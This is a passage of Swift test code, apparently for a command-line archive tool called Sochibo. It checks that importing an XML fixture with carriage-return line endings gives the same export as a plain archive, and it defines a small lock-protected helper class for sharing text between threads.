        let carriageReturns = directory + "/minimal-cr.xml"
        try Data(minimal.replacingOccurrences(of: "\n", with: "\r").utf8).write(
            to: URL(fileURLWithPath: carriageReturns))
        #expect(try run(["import", carriageReturns]).status == 0)
        let plain = directory + "/plain"
        #expect(try Sochibo.run(["init", "--archive", plain]).status == 0)
        #expect(
            try Sochibo.run(["import", "--archive", plain, Sochibo.path("fixtures/valid/minimal.xml")]).status == 0)
        #expect(try run(["export"]).output == (try Sochibo.run(["export", "--archive", plain]).output))
    }
}

/// Text one thread writes once and another waits for.
private final class ReadText: @unchecked Sendable {
    private let lock = NSLock()
    private var value: String?
    var text: String {
        get { lock.withLock { value ?? "" } }
        set { lock.withLock { value = newValue } }
    }
    var done: Bool { lock.withLock { value != nil } }
}
